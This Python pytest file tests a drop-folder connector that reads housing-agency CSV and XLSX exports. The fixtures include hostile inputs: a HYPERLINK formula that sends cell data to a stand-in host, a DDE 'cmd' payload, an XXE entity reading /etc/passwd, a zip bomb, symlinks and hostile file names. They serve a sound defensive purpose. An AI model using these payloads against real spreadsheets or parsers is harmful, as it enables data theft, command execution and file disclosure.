"""Attacks by way of the files that agencies drop: formulas, bombs, halves, hostile names."""

import csv
import io
import os
import zipfile
from collections.abc import Sequence
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula

from broker.domain.errors import SourceUnavailableError
from broker.domain.ids import Category
from broker.domain.record import RecordItem, RecordQuery
from connectors import dropfolder, sheets
from connectors.dropfolder import DropFolderConnector

HEADER = ("record_id", "subject_ref", "title", "recorded_on", "text", "tenure")
ROW = ("T1", "T-004512", "Tenancy", "2026-01-02", "Locks changed.", "secure")
END = ("END-OF-EXPORT", "1")
QUERY = RecordQuery(
    subject_ref="T-004512", categories=(Category("tenancy"),), since=date(2020, 1, 1)
)
NAME = "tenancies_20261109T020000Z"

UNHURRIED = settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=50, deadline=None
)

Rows = Sequence[Sequence[object]]


def _connector(folder: Path) -> DropFolderConnector:
    return DropFolderConnector(
        agency="ashmere-housing-la", folder=folder, exports={"tenancies": Category("tenancy")}
    )


def _csv(rows: Rows) -> bytes:
    written = io.StringIO(newline="")
    csv.writer(written).writerows(rows)
    return written.getvalue().encode()


def _xlsx(rows: Rows) -> bytes:
    book, written = Workbook(write_only=True), io.BytesIO()
    sheet = book.create_sheet()
    for row in rows:
        sheet.append(row)
    book.save(written)
    return written.getvalue()


def _fetch(folder: Path, content: bytes, name: str = f"{NAME}.csv") -> list[RecordItem]:
    (folder / name).write_bytes(content)
    return list(_connector(folder).fetch(QUERY))


@pytest.mark.parametrize(("write", "ending"), [(_csv, "csv"), (_xlsx, "xlsx")])
def test_good_export_is_read(write: object, ending: str, tmp_path: Path) -> None:
    """The export that the attacks below spoil is itself a good one, in both formats."""
    assert callable(write)
    (found,) = _fetch(tmp_path, write((HEADER, ROW, END)), f"{NAME}.{ending}")

    assert (found.title, found.recorded_on) == ("Tenancy", date(2026, 1, 2))
    assert (found.text, found.fields) == ("Locks changed.", (("tenure", "secure"),))


def test_byte_order_mark_of_a_spreadsheet_is_not_part_of_the_header(tmp_path: Path) -> None:
    """A file saved as CSV UTF-8 is read like any other."""
    assert len(_fetch(tmp_path, b"\xef\xbb\xbf" + _csv((HEADER, ROW, END)))) == 1


@pytest.mark.parametrize("write", [_csv, _xlsx])
@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.example/"&A1,"x")', "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-A1"],
)
def test_formula_in_a_cell_is_text_that_runs_nowhere(
    write: object, formula: str, tmp_path: Path
) -> None:
    """A formula is never computed, and is marked as text before anybody opens it again."""
    assert callable(write)
    row = (*ROW[:4], formula, formula)
    ending = "csv" if write is _csv else "xlsx"
    (found,) = _fetch(tmp_path, write((HEADER, row, END)), f"{NAME}.{ending}")

    assert (found.text, found.fields) == (f"'{formula}", (("tenure", f"'{formula}"),))


@pytest.mark.parametrize("words", ["- milk\n- bread", "+44 20 7946 0123", "-5", "a = b", "e@x.org"])
def test_ordinary_text_is_not_taken_for_a_formula(words: str, tmp_path: Path) -> None:
    """Lists, numbers and addresses are not changed."""
    (found,) = _fetch(tmp_path, _csv((HEADER, (*ROW[:4], words), END)))

    assert found.text == words


def test_array_formula_is_refused(tmp_path: Path) -> None:
    """What has no text of its own cannot be read as one."""
    row = (*ROW[:4], ArrayFormula("E2:E3", "=A1:A2"))

    with pytest.raises(SourceUnavailableError, match="array formula"):
        _fetch(tmp_path, _xlsx((HEADER, row, END)), f"{NAME}.xlsx")


@pytest.mark.parametrize(
    ("rows", "fault"),
    [
        ((), "record_id"),
        ((("ref", *HEADER[1:]), ROW, END), "record_id"),
        ((HEADER[:4], ROW[:4], END), "text"),
        (((*HEADER[:3], "text", "recorded_on"), ROW, END), "recorded_on"),
        (((*HEADER, "tenure"), ROW, END), "tenure"),
        (((*HEADER, "", "x"), ROW, END), "without a name"),
        ((HEADER, ROW), "half written"),
        ((HEADER, ROW, ("END-OF-EXPORT", "2")), "another number"),
        ((HEADER, ROW, ("END-OF-EXPORT",)), "another number"),
        ((HEADER, ROW, END, ROW), "goes on"),
        ((HEADER, (*ROW, "surplus"), END), "row 2"),
        ((HEADER, ("", *ROW[1:]), END), "record_id"),
        ((HEADER, (*ROW[:3], "02/01/2026", "x"), END), "recorded_on of row 2"),
    ],
)
def test_wrong_file_names_the_place_and_none_of_its_content(
    rows: Rows, fault: str, tmp_path: Path
) -> None:
    """Wrong headers, rows and ends are refused with file and column, without what stands there."""
    for write, ending in ((_csv, "csv"), (_xlsx, "xlsx")):
        with pytest.raises(SourceUnavailableError) as failed:
            _fetch(tmp_path, write(rows), f"{NAME}.{ending}")

        assert NAME in str(failed.value)
        assert fault in str(failed.value)
        assert "T-004512" not in str(failed.value)
        (tmp_path / f"{NAME}.{ending}").unlink()


@given(share=st.floats(0, 1, exclude_max=True), ending=st.sampled_from(["csv", "xlsx"]))
@UNHURRIED
def test_export_cut_off_anywhere_is_never_half_a_record(
    share: float, ending: str, tmp_path: Path
) -> None:
    """However much of a file has arrived, it is either whole or an error."""
    write = _csv if ending == "csv" else _xlsx
    whole = write((HEADER, ROW, (*ROW[:4], "Moved.\nTwice."), ("END-OF-EXPORT", "2"), ()))
    path = tmp_path / f"{NAME}.{ending}"
    path.write_bytes(whole[: int(share * len(whole))])
    try:
        found = len(_connector(tmp_path).fetch(QUERY))
    except SourceUnavailableError:
        found = 2
    finally:
        path.unlink()

    assert found == 2


@pytest.mark.parametrize(
    "content", [b"", b"\x00" * 50, b"\xff\xfeT\x00", b"PK\x03\x04", b'"', b"a,b"]
)
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_file_that_is_something_else_is_refused(
    content: bytes, ending: str, tmp_path: Path
) -> None:
    """A file of another kind under an export's name is an error, not an empty export."""
    with pytest.raises(SourceUnavailableError):
        _fetch(tmp_path, content, f"{NAME}.{ending}")


def test_workbook_that_unpacks_into_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    """A small file that promises hundreds of megabytes is refused before it is parsed."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            with archive.open(f"xl/sheet{number}.xml", "w", force_zip64=True) as part:
                for _ in range(50):
                    part.write(b" " * 1_000_000)
    assert len(written.getvalue()) < 1_000_000

    with pytest.raises(SourceUnavailableError, match="unpack"):
        _fetch(tmp_path, written.getvalue(), f"{NAME}.xlsx")


def test_workbook_with_xml_entities_is_not_parsed(tmp_path: Path) -> None:
    """Entities could repeat a word a billion times or read the broker's own files."""
    spoilt = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_xlsx((HEADER, ROW, END)))) as good,
        zipfile.ZipFile(spoilt, "w") as archive,
    ):
        for one in good.infolist():
            content = good.read(one)
            if one.filename.endswith("sheet1.xml"):
                content = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + content
            archive.writestr(one, content)

    with pytest.raises(SourceUnavailableError, match="entities"):
        _fetch(tmp_path, spoilt.getvalue(), f"{NAME}.xlsx")


@pytest.mark.parametrize(
    ("bound", "limit"),
    [("MAX_FILE_BYTES", 60), ("MAX_ROWS", 2), ("MAX_COLUMNS", 5), ("MAX_CELL_CHARACTERS", 9)],
)
def test_oversized_export_is_refused(
    bound: str, limit: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Too many bytes, rows, columns or characters are refused, not cut."""
    monkeypatch.setattr(sheets, bound, limit)

    for write, ending in ((_csv, "csv"), (_xlsx, "xlsx")):
        with pytest.raises(SourceUnavailableError):
            _fetch(tmp_path, write((HEADER, ROW, END)), f"{NAME}.{ending}")


@pytest.mark.parametrize(
    "name",
    [
        f"{NAME}.csv.part",
        f"{NAME}.csv.tmp",
        f".{NAME}.csv",
        f"~${NAME}.xlsx",
        f"{NAME}.CSV",
        f"{NAME}.csv\n",
        "tenancies.csv",
        "tenancies_2026-11-09.csv",
        "tenancies_99999999T999999Z.csv.exe",
        "..csv",
        "tenancies_20261109T020000Z (1).csv",
    ],
)
def test_file_under_another_name_is_not_looked_at(name: str, tmp_path: Path) -> None:
    """Half-written files and hostile names are as good as absent, and absent is not empty."""
    with pytest.raises(SourceUnavailableError, match="no export"):
        _fetch(tmp_path, _csv((HEADER, ROW, END)), name)


def test_link_in_the_folder_is_not_followed(tmp_path: Path) -> None:
    """A link cannot make the broker read a file from somewhere else."""
    drop, secret = tmp_path / "drop", tmp_path / "secret.csv"
    drop.mkdir()
    secret.write_bytes(_csv((HEADER, ROW, END)))
    (drop / f"{NAME}.csv").symlink_to(secret)

    with pytest.raises(SourceUnavailableError, match="no export"):
        _connector(drop).fetch(QUERY)


def test_pipe_in_the_folder_does_not_hang_the_broker(tmp_path: Path) -> None:
    """A pipe under an export's name is not waited for."""
    os.mkfifo(tmp_path / f"{NAME}.csv")

    with pytest.raises(SourceUnavailableError, match="no export"):
        _connector(tmp_path).fetch(QUERY)


def test_reading_itself_refuses_links_and_pipes(tmp_path: Path) -> None:
    """A file swapped for a link or pipe after the folder was listed is refused all the same."""
    (tmp_path / "there.csv").write_bytes(_csv((HEADER, ROW, END)))
    (tmp_path / "link.csv").symlink_to(tmp_path / "there.csv")
    os.mkfifo(tmp_path / "pipe.csv")

    with pytest.raises(OSError, match="link"):
        list(sheets.read_rows(tmp_path / "link.csv"))
    with pytest.raises(sheets.SheetError):
        list(sheets.read_rows(tmp_path / "pipe.csv"))


def test_newest_complete_name_wins_whatever_the_clock_of_the_disk_says(tmp_path: Path) -> None:
    """A restored old export, newer on disk, does not bring old facts back."""
    newer = (*ROW[:4], "Locks changed twice.")
    (tmp_path / "tenancies_20261109T030000Z.csv").write_bytes(_csv((HEADER, newer, END)))
    (found,) = _fetch(tmp_path, _csv((HEADER, ROW, END)))

    assert found.text == "Locks changed twice."


def test_missing_folder_and_overfull_folder_are_errors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder that is not there, or that nobody clears, is reported, without its path."""
    with pytest.raises(SourceUnavailableError) as failed:
        _connector(tmp_path / "missing").fetch(QUERY)
    assert str(tmp_path) not in str(failed.value)

    monkeypatch.setattr(dropfolder, "MAX_FILES", 1)
    (tmp_path / "a").touch()
    with pytest.raises(SourceUnavailableError, match="clear"):
        _fetch(tmp_path, _csv((HEADER, ROW, END)))


def test_cells_of_a_spreadsheet_become_plain_words(tmp_path: Path) -> None:
    """Dates, numbers and truth values read as people write them."""
    header = (*HEADER, "rent", "rate", "joint", "since", "at")
    row = (
        *ROW[:3],
        datetime(2026, 1, 2),  # noqa: DTZ001  # A spreadsheet's cells know no zone.
        "x",
        12,
        12.0,
        0.5,
        True,
        date(2025, 5, 4),
        datetime(2025, 5, 4, 9, 30),  # noqa: DTZ001  # As above.
    )
    (found,) = _fetch(tmp_path, _xlsx((header, row, END)), f"{NAME}.xlsx")

    assert found.recorded_on == date(2026, 1, 2)
    assert [value for _, value in found.fields] == [
        *("12", "12", "0.5", "yes", "2025-05-04", "2025-05-04 09:30:00")
    ]
